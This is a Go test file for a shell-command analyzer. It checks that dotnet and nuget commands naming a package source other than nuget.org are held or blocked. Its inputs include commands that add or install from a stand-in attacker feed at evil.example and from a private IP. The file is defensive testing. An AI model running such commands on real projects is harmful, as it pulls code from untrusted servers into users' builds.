package shell

import (
	"strings"
	"testing"
)

// TestDotnetPackageSources: every installing dotnet command, with each
// spelling of a source option, holds an install from a server other than
// nuget.org; nuget.org, a local folder and no source run.
func TestDotnetPackageSources(t *testing.T) {
	cmds := []string{"dotnet tool install -g T OPT", "dotnet tool update --global T OPT", "dotnet add package P OPT", "dotnet add app.csproj package P OPT",
		"dotnet restore OPT", "dotnet build OPT", "dotnet publish -c Release OPT", "dotnet new install Tmpl OPT", "nuget install P OPT", "nuget restore OPT"}
	dotnetOpts := []string{"--add-source URL", "--source URL", "-s URL", "--source=URL", "--nuget-source URL"}
	nugetOpts := []string{"-Source URL", "-source URL", "-FallbackSource URL"}
	for _, cmd := range cmds {
		opts := dotnetOpts
		if strings.HasPrefix(cmd, "nuget") {
			opts = nugetOpts
		}
		for _, opt := range opts {
			for url, held := range map[string]bool{"https://evil.example/v3/index.json": true, "http://10.0.0.5:8080/nuget": true,
				"https://api.nuget.org/v3/index.json": false, "./local-feed": false} {
				line := strings.Replace(cmd, "OPT", strings.Replace(opt, "URL", url, 1), 1)
				got := verdictClass(Analyze(line, exampleOptions).Findings)
				if held && got != "approve" && got != "block" || !held && got != "allow" {
					t.Errorf("%s = %s, want held %v", line, got, held)
				}
			}
		}
	}
	for _, line := range []string{"dotnet nuget add source https://evil.example/v3/index.json -n evil", "nuget sources add -Name evil -Source https://evil.example/nuget"} {
		if got := verdictClass(Analyze(line, exampleOptions).Findings); got == "allow" {
			t.Errorf("%s = allow: it saves another package source", line)
		}
	}
}
